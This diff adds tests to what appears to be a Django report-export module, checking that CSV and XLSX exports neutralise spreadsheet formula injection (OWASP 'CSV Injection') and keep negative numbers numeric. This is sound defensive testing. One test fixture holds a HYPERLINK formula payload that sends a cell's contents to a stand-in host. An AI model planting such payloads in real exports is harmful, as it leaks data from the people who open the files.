@@ -88,3 +88,76 @@ def test_downloads_partial_links_to_the_report_routes():
     assert "/informes/estados/oaxaca.pdf" in html
     html = render_to_string("reports/_downloads.html", {"kind": "practice", "practice_id": "oaxaca-2"})
     assert "/informes/practicas/oaxaca-2.pdf" in html
+
+
+# Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), planted in a published ficha.
+_HOSTILE = {
+    "title": '=HYPERLINK("http://example.invalid/?d="&A1,"Ver ficha")',
+    "description": "+1 ciudad atendida",
+    "target_population": "-2 grupos de personas",
+    "institution": "@SUM(A1:A9)",
+}
+
+
+def _plant_hostile_cells() -> None:
+    """Give oaxaca-1 formula-like texts and one of Oaxaca's figures a negative value."""
+    from buenaspracticas.catalog import services as catalog_services
+    from buenaspracticas.catalog.models import Practice
+    from buenaspracticas.curation.services import indicator_update
+    from buenaspracticas.panorama.models import Indicator
+
+    practice = Practice.objects.get(public_id="oaxaca-1")
+    catalog_services.practice_update(
+        practice_id=practice.pk,
+        data=_HOSTILE,
+        expected_version=None,
+    )
+    figure = Indicator.objects.filter(panorama__state__code="MX-OAX", key="total_population").get()
+    indicator_update(user=None, indicator_id=figure.pk, value=-2.5, reason="Prueba de cifra negativa")
+
+
+def test_csv_prefixes_formula_like_text_with_a_quote_and_keeps_negative_numbers(report):
+    _plant_hostile_cells()
+    content, _ = export_bytes(fmt="csv", filters=_filters("estado=oaxaca"))
+    row = next(r for r in csv.DictReader(io.StringIO(content.decode("utf-8-sig"))) if r["id"] == "oaxaca-1")
+    for column, text in _HOSTILE.items():
+        assert row[column] == "'" + text
+    assert row["state_code"] == "MX-OAX" and row["number"] == "1"
+
+    content, _ = export_bytes(fmt="csv", filters=_filters("estado=oaxaca"), table="indicators")
+    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+    population = next(r for r in rows if r["key"] == "total_population")
+    assert float(population["value"]) == -2.5  # a number, not the text "'-2.5"
+
+
+def test_xlsx_writes_formula_like_text_as_text_cells_and_numbers_as_numbers(report):
+    _plant_hostile_cells()
+    content, _ = export_bytes(fmt="xlsx", filters=_filters("estado=oaxaca"))
+    wb = load_workbook(io.BytesIO(content))
+    sheet = wb["practices"]
+    header = [c.value for c in sheet[1]]
+    cells = next(
+        dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2) if r[0].value == "oaxaca-1"
+    )
+    for column, text in _HOSTILE.items():
+        assert cells[column].value == text and cells[column].data_type == "s"
+        assert cells[column].quotePrefix  # stays text when someone edits the cell in Excel
+    every_cell = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
+    assert not [c.coordinate for c in every_cell if c.data_type == "f"]
+    sheet = wb["indicators"]
+    header = [c.value for c in sheet[1]]
+    rows = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2)]
+    population = next(r for r in rows if r["key"].value == "total_population")
+    assert population["value"].value == -2.5 and population["value"].data_type == "n"
+
+
+def test_exported_csv_and_xlsx_with_formula_like_text_import_back_unchanged(report, tmp_path):
+    from buenaspracticas.reports.import_write import import_file
+
+    _plant_hostile_cells()
+    for fmt in ("csv", "xlsx"):
+        path = tmp_path / f"oaxaca.{fmt}"
+        path.write_bytes(export_bytes(fmt=fmt, filters=_filters("estado=oaxaca"))[0])
+        result = import_file(path, dry_run=True)
+        assert result.practices.changed_ids == [], fmt
+        assert result.practices.unchanged == 5 and result.panoramas.updated == 0, fmt
